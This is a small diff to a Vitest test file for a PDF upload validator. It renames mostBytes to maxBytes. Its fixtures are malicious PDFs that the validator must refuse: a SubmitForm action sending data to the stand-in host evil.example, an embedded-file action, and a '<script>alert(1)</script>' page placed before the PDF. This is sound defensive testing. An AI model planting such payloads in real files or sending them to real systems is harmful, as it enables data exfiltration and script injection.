@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest'
-import { mostBytes, paperError } from './application-document-file.ts'
+import { maxBytes, paperError } from './application-document-file.ts'
 
 const pdf = (body = '') => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`)
 
@@ -16,7 +16,7 @@ it.each([
   ['a form that is sent away', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), /carries a program/],
   ['a file within it that is opened', pdf('<< /S /GoToE >>'), /carries a program/],
   ['a page in front of the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdf()]), /no whole PDF/],
-  ['one that is too large', Buffer.concat([pdf(), Buffer.alloc(mostBytes), pdf()]), /10 MB/],
+  ['one that is too large', Buffer.concat([pdf(), Buffer.alloc(maxBytes), pdf()]), /10 MB/],
 ])('%s is refused, and why is said', (_, file, why) => {
   expect(paperError(file)).toMatch(why)
 })
